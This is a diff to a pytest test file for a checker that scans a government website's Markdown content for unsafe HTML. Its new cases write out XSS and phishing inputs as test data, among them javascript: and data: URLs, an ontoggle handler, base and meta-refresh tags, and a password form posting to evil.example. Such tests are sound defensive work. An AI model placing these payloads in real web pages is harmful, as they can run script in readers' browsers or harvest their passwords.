@@ -81,12 +81,88 @@ def test_dangerous_html_in_a_column_page_is_reported(make_site):
     assert out.splitlines() == [f"content/xxgk/zhinan.md:3: {CASES['iframe'][1]}"]
 
 
-def test_tables_line_breaks_and_code_examples_pass(make_site):
-    body = (
+SAFE_BODIES = {
+    "tables, line breaks and code examples": (
         "<table><tr><td>第一行<br>第二行</td></tr></table>\n\n"
         "链接：<https://www.gov.cn/>，[国务院](https://www.gov.cn/)。\n\n"
         "写法示例：`<script>` 不会被执行。\n\n"
         "```html\n<script>alert(1)</script>\n```\n"
-    )
-    code, out, _ = _check(make_site, {POLICY: SEED_POLICY + "\n" + body})
+    ),
+    "what Markdown and the portal write": (
+        "| 项目 | 标准 |\n|:--:|--:|\n| 甲 | 1 元 |\n\n"
+        "<details><summary>附：说明</summary><p>第一条<br>第二条</p></details>\n\n"
+        "![示意图](tu.png) [附件](fujian.pdf) [邮箱](mailto:a@example.gov.cn) [电话](tel:0475-0000000)\n\n"
+        "1. 甲\n2. 乙\n\n> 引文\n\n---\n"
+    ),
+}
+
+
+@pytest.mark.parametrize("case", SAFE_BODIES)
+def test_safe_html_and_markdown_pass(make_site, case):
+    code, out, _ = _check(make_site, {POLICY: SEED_POLICY + "\n" + SAFE_BODIES[case]})
     assert (code, out) == (0, "")
+
+
+ALLOWED = "网站正文只允许文字、标题、列表、表格、链接和本网站的图片。"
+JS_URL = CASES["javascript url in html"][1]
+# Each construct that went through a line-by-line scan: (body lines, [(line offset, message)]).
+ALLOWLIST_CASES = {
+    "attribute on the next line": (
+        "<details open\nontoggle=alert(1)>摘要</details>",
+        [(0, CASES["event handler"][1].replace("onerror", "ontoggle"))],
+    ),
+    "base": (
+        '<base href="https://evil.example/">',
+        [(0, f"unsafe-html-tag 这一行有 <base>，会改变本页所有链接和文件的去向。{ALLOWED}请删除它。")],
+    ),
+    "meta refresh": (
+        '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
+        [(0, f"unsafe-html-tag 这一行有 <meta>，会让页面自动跳转到其他网址或改变页面设置。{ALLOWED}请删除它。")],
+    ),
+    "reference definition on the next line": (
+        "[办事指南]\n\n[办事指南]:\n    javascript:alert(1)",
+        [(3, JS_URL)],
+    ),
+    "scheme split by a line break inside a tag": (
+        '<a href="java\nscript:alert(1)">点击</a>',
+        [(0, JS_URL)],
+    ),
+    "scheme after a control character": (
+        "[点击](\x01javascript:alert(1))",
+        [(0, JS_URL)],
+    ),
+    "data url": (
+        '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">下载</a>',
+        [(0, "unsafe-html-url 这一行的地址“data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==”以“data:”开头。"
+             "网站只允许 https://、http://、mailto:、tel: 开头的地址和本网站的相对地址。请改正这一地址。")],
+    ),
+    "off-site form with a password field": (
+        '<form action="https://evil.example/">\n<input type="password" name="p">\n</form>',
+        [(0, "unsafe-html-form 这一行有 <form>，会让读者在本页填写内容（可能是密码）并发送出去。"
+             f"{ALLOWED}请删除这个表单，需要读者办理的事项请链接到政务服务网站。"),
+         (1, "unsafe-html-form 这一行有 <input>，会让读者在本页填写内容（可能是密码）并发送出去。"
+             f"{ALLOWED}请删除这个表单，需要读者办理的事项请链接到政务服务网站。")],
+    ),
+    "off-site image in markdown": (
+        "![统计图](https://evil.example/pixel.png)",
+        [(0, "unsafe-html-remote 这一行的图片从其他网站加载（https://evil.example/pixel.png）。"
+             "本网站的页面不从其他网站加载任何内容。请把图片文件放在本文件所在的文件夹，用相对路径引用。")],
+    ),
+    "style attribute": (
+        '<p style="background:url(https://evil.example/x)">文字</p>',
+        [(0, f"unsafe-html-attr 这一行的 <p> 带有属性“style”，网站正文不允许使用它。{ALLOWED}请删除这一属性。")],
+    ),
+    "off-site stylesheet": (
+        '<link rel="stylesheet" href="https://evil.example/x.css">',
+        [(0, f"unsafe-html-tag 这一行有 <link>，会从其他地方加载样式或文件。{ALLOWED}请删除它。")],
+    ),
+}
+
+
+@pytest.mark.parametrize("case", ALLOWLIST_CASES)
+def test_what_the_allowlist_drops_is_reported_on_its_line(make_site, case):
+    snippet, expected = ALLOWLIST_CASES[case]
+    code, out, _ = _check(make_site, {POLICY: SEED_POLICY + "\n" + snippet + "\n"})
+    assert code == 1
+    assert out.splitlines() == [f"{POLICY}:{BODY_LINE + 1 + offset}: {message}" for offset, message in expected]
+
